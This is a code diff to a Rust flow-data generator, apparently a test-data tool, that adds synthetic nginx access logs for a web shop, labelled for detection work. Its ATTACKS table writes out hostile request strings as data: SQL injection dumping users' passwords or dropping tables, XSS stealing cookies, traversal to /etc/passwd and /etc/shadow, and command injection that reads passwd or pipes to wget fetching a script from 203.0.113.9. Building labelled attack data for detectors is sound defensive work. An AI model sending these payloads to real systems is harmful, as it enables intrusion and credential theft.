@@ -4,7 +4,13 @@
 //! ```text
 //! flowtag gen --schema unsw --count 100000 > flows.csv
 //! flowtag gen --schema cicflowmeter --count 1000 --rate 200 --format json | nc 127.0.0.1 5170
+//! flowtag gen --schema access-log --format combined --count 100000 > access.log
 //! ```
+//!
+//! `access-log` writes a small shop's web requests as nginx's `combined` format does (or, with
+//! `--format json`, the fields the `combined` decoder gives, plus `label` and `attack`): pages,
+//! searches, product and cart requests, logins, static files, from a few hundred clients, with
+//! injected SQL injection, XSS, path traversal, command injection and scanner probes.
 //!
 //! Records carry the columns of the real formats: UNSW-NB15's partitioned files (`id` ...
 //! `attack_cat`, `label`) or CICFlowMeter's 78 columns with `Label`. Every value is drawn from
@@ -27,12 +33,15 @@ use flowtag_plugin::json as js;
 pub enum Schema {
     Unsw,
     Cicflowmeter,
+    AccessLog,
 }
 
 #[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
 pub enum Format {
     Csv,
     Json,
+    /// The Combined Log Format (`access-log` only).
+    Combined,
 }
 
 pub struct GenArgs {
@@ -48,6 +57,13 @@ pub struct GenArgs {
 type Record = Vec<(&'static str, String)>;
 
 pub fn run(args: GenArgs) -> i32 {
+    match (args.schema, args.format) {
+        (Schema::AccessLog, Format::Csv) | (Schema::Unsw | Schema::Cicflowmeter, Format::Combined) => {
+            eprintln!("flowtag gen: --schema access-log writes --format combined or json; the flow schemas csv or json");
+            return 2;
+        }
+        _ => {}
+    }
     let stdout = std::io::stdout();
     let mut out = std::io::BufWriter::with_capacity(1 << 20, stdout.lock());
     // A write error means the reader went away (a pipe closed): done either way.
@@ -65,6 +81,7 @@ pub fn write(args: &GenArgs, out: &mut impl Write) -> std::io::Result<()> {
         let rec = match args.schema {
             Schema::Unsw => unsw(&mut rng, i + 1, attack),
             Schema::Cicflowmeter => cicflowmeter(&mut rng, attack),
+            Schema::AccessLog => access_log(&mut rng, i, attack),
         };
         line.clear();
         if args.format == Format::Csv && i == 0 {
@@ -73,6 +90,7 @@ pub fn write(args: &GenArgs, out: &mut impl Write) -> std::io::Result<()> {
             line.push(b'\n');
         }
         match args.format {
+            Format::Combined => combined_line(&rec, &mut line),
             Format::Csv => {
                 for (k, (_, v)) in rec.iter().enumerate() {
                     if k > 0 {
@@ -110,6 +128,99 @@ pub fn write(args: &GenArgs, out: &mut impl Write) -> std::io::Result<()> {
         }
     }
     out.flush()
+}
+
+/// Search words, product ids and agents of the generated shop.
+const WORDS: [&str; 12] = ["shoes", "red dress", "laptop", "coffee", "garden chair", "lamp", "kids", "sale", "phone case", "jeans", "tent", "mug"];
+const AGENTS: [&str; 6] = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
+    "curl/8.5.0",
+    "Googlebot/2.1 (+http://www.google.com/bot.html)",
+];
+/// Injected attacks: (kind, method, target), `{}` filled with a product id.
+const ATTACKS: [(&str, &str, &str); 12] = [
+    ("sqli", "GET", "/search?q=shoes%27%20OR%20%271%27%3D%271&page=1"),
+    ("sqli", "GET", "/products/{}?ref=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
+    ("sqli", "GET", "/cart/add?item={}%3BDROP%20TABLE%20orders--&qty=1"),
+    ("xss", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
+    ("xss", "GET", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&page=2"),
+    ("traversal", "GET", "/static/../../../../etc/passwd"),
+    ("traversal", "GET", "/download?file=..%2F..%2F..%2Fetc%2Fshadow"),
+    ("traversal", "GET", "/static/%252e%252e%252f%252e%252e%252fwindows/win.ini"),
+    ("command", "GET", "/api/v1/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"),
+    ("command", "POST", "/api/v1/export?format=csv%7Cwget%20http%3A%2F%2F203.0.113.9%2Fx.sh"),
+    ("scan", "GET", "/wp-admin/setup-config.php"),
+    ("scan", "GET", "/.env"),
+];
+
+/// One request of the generated shop; `i` places it in time (100 a second from midnight).
+fn access_log(rng: &mut StdRng, i: u64, attack: bool) -> Record {
+    let item = rng.gen_range(1000..1400);
+    let (kind, method, target, status) = if attack {
+        let (kind, method, target) = ATTACKS[rng.gen_range(0..ATTACKS.len())];
+        let status = [400, 403, 404, 500, 200][rng.gen_range(0..5)];
+        (kind, method, target.replace("{}", &item.to_string()), status)
+    } else {
+        let word = WORDS[rng.gen_range(0..WORDS.len())].replace(' ', "+");
+        let (method, target, status) = match rng.gen_range(0..100) {
+            0..=19 => ("GET", "/".to_string(), 200),
+            20..=39 => ("GET", format!("/products/{item}"), if rng.gen_bool(0.03) { 404 } else { 200 }),
+            40..=54 => ("GET", format!("/search?q={word}&page={}", rng.gen_range(1..5)), 200),
+            55..=64 => ("POST", format!("/cart/add?item={item}&qty={}", rng.gen_range(1..4)), 302),
+            65..=69 => ("POST", "/login".to_string(), if rng.gen_bool(0.2) { 401 } else { 302 }),
+            70..=89 => ("GET", ["/static/css/site.css", "/static/js/app.js", "/static/img/logo.png"][rng.gen_range(0..3)].to_string(), 200),
+            _ => ("GET", format!("/api/v1/items?limit={}&offset={}", [10, 20, 50][rng.gen_range(0..3)], rng.gen_range(0..20) * 10), 200),
+        };
+        ("-", method, target, status)
+    };
+    let secs = i / 100;
+    let time = format!("05/Dec/2026:{:02}:{:02}:{:02} +0000", (secs / 3600) % 24, (secs / 60) % 60, secs % 60);
+    let client = format!("10.{}.{}.{}", rng.gen_range(0..4), rng.gen_range(0..32), rng.gen_range(1..255));
+    let bytes = if status == 200 { around(rng, 5200.0, 0.9).round() as u64 } else { rng.gen_range(0..400) };
+    let referrer = if rng.gen_bool(0.4) { "https://shop.example/".to_string() } else { "-".to_string() };
+    let agent = if attack && rng.gen_bool(0.5) { "sqlmap/1.7.11#stable (https://sqlmap.org)" } else { AGENTS[rng.gen_range(0..AGENTS.len())] };
+    let (path, query) = target.split_once('?').map_or((target.as_str(), None), |(p, q)| (p, Some(q)));
+    let mut rec: Record = vec![
+        ("client_address", client),
+        ("time", time),
+        ("method", method.to_string()),
+        ("target", target.clone()),
+        ("path", path.to_string()),
+    ];
+    if let Some(q) = query {
+        rec.push(("query", q.to_string()));
+    }
+    rec.extend([
+        ("protocol", "HTTP/1.1".to_string()),
+        ("status", status.to_string()),
+        ("bytes", bytes.to_string()),
+        ("referrer", referrer),
+        ("user_agent", agent.to_string()),
+        ("label", u8::from(attack).to_string()),
+        ("attack", kind.to_string()),
+    ]);
+    rec
+}
+
+/// A generated request as nginx's `combined` format writes it.
+fn combined_line(rec: &Record, line: &mut Vec<u8>) {
+    let get = |k: &str| rec.iter().find(|(n, _)| *n == k).map_or("-", |(_, v)| v.as_str());
+    let _ = write!(
+        line,
+        "{} - - [{}] \"{} {} {}\" {} {} \"{}\" \"{}\"",
+        get("client_address"),
+        get("time"),
+        get("method"),
+        get("target"),
+        get("protocol"),
+        get("status"),
+        get("bytes"),
+        get("referrer"),
+        get("user_agent")
+    );
 }
 
 /// A log-normal value around `median` (`spread` is the sigma of its log).
